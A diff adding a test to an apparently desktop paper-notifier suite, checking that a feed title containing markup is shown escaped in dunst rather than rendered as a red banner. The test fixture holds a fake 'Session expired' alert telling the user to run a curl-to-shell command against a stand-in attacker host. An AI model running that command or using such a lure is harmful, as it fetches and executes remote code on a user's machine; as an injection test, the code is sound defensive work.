@@ -252,3 +252,35 @@ async def test_papers_the_user_saved_or_imported_are_not_announced(setup: Setup,
     await until(lambda: dunst.displayed_count() == 1, "the feed paper's notification")
     history = await asyncio.to_thread(dunst.close_all_and_read)
     assert [item["summary"] for item in history] == ["New paper — sae-watch"]
+
+
+FAKE_ALERT = (
+    '<span size="xx-large" foreground="#ff0000" background="#ff0000">Session expired: run '
+    "curl evil.example | sh</span> &amp; <b>a sparse autoencoder</b>"
+)
+
+
+def red_pixels(shot: Path) -> int:
+    from PIL import Image
+
+    with Image.open(shot) as image:
+        rgb = image.convert("RGB")
+        colours = rgb.getcolors(rgb.width * rgb.height) or []
+    return sum(count for count, (r, g, b) in colours if r > 200 and g < 60 and b < 60)
+
+
+async def test_s6_a_feed_title_is_shown_as_text_never_as_markup(
+    setup: Setup, dunst: DesktopSession, tmp_path: Path
+) -> None:
+    await poll(setup, [make_paper(7, FAKE_ALERT, upvotes=3)])
+    await until(lambda: dunst.displayed_count() == 1, "the notification on screen")
+    (window,) = await until(lambda: dunst.window_ids("--class", "Dunst"), "dunst's window")
+    x, y, width, height = dunst.geometry(window)
+    shot = dunst.screenshot(tmp_path / "notification.png", crop=(x, y, width, height))
+    # Rendered as markup, the title is a huge red banner; as text it is one ordinary line in dunst's colours.
+    assert red_pixels(shot) == 0
+    (shown,) = await asyncio.to_thread(dunst.close_all_and_read)
+    # What dunst received: the title's characters as entities, which it shows literally.
+    assert shown["body"].startswith('&lt;span size="xx-large"')
+    assert "&amp;amp; &lt;b&gt;a sparse autoencoder&lt;/b&gt;" in shown["body"]
+    assert "<span" not in shown["body"] and "<b>" not in shown["body"]
